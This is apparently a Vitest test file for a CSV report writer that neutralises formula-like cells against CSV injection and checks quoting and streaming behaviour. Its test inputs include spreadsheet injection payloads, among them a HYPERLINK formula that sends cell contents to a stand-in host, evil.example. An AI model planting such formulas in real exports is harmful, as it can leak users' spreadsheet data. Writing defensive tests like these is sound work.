import { text } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvStream, guardFormula } from '../../server/reports/csv.ts';

// Report CSVs open in spreadsheets: a cell that starts like a formula must stay text (OWASP, CSV injection).

describe('guardFormula', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '=HYPERLINK("http://evil.example","Click")'])('makes %j text with a leading quote', (value) => {
    expect(guardFormula(value)).toBe(`'${value}`);
  });

  it.each(['Pricing deck', '', "'already quoted", ' =padded', 'a=b', '1-2'])('leaves %j alone', (value) => {
    expect(guardFormula(value)).toBe(value);
  });
});

describe('csvStream', () => {
  const columns = [
    { header: 'title', value: (row: { title: string; uses: number; at: Date | null }) => row.title },
    { header: 'uses', value: (row: { uses: number }) => row.uses },
    { header: 'at', value: (row: { at: Date | null }) => row.at },
  ];

  it('writes a header row, then each page as it comes, guarded and quoted', async () => {
    async function* pages() {
      yield [{ title: '=HYPERLINK("http://evil.example/?d="&A1,"Click")', uses: 3, at: new Date('2026-01-02T03:04:05.000Z') }];
      yield [{ title: '-2 margin, "really"', uses: 0, at: null }, { title: '@handle', uses: 1, at: null }];
    }
    expect(await text(csvStream(columns, pages()))).toBe([
      'title,uses,at',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",3,2026-01-02T03:04:05.000Z`,
      `"'-2 margin, ""really""",0,`,
      `'@handle,1,`,
      '',
    ].join('\n'));
  });

  it('writes the header alone for no rows', async () => {
    async function* none() { /* an empty report */ }
    expect(await text(csvStream(columns, none()))).toBe('title,uses,at\n');
  });

  it('ends with the error when a page fails midway', async () => {
    async function* failing() {
      yield [{ title: 'one', uses: 1, at: null }];
      throw new Error('database away');
    }
    await expect(text(csvStream(columns, failing()))).rejects.toThrow('database away');
  });
});
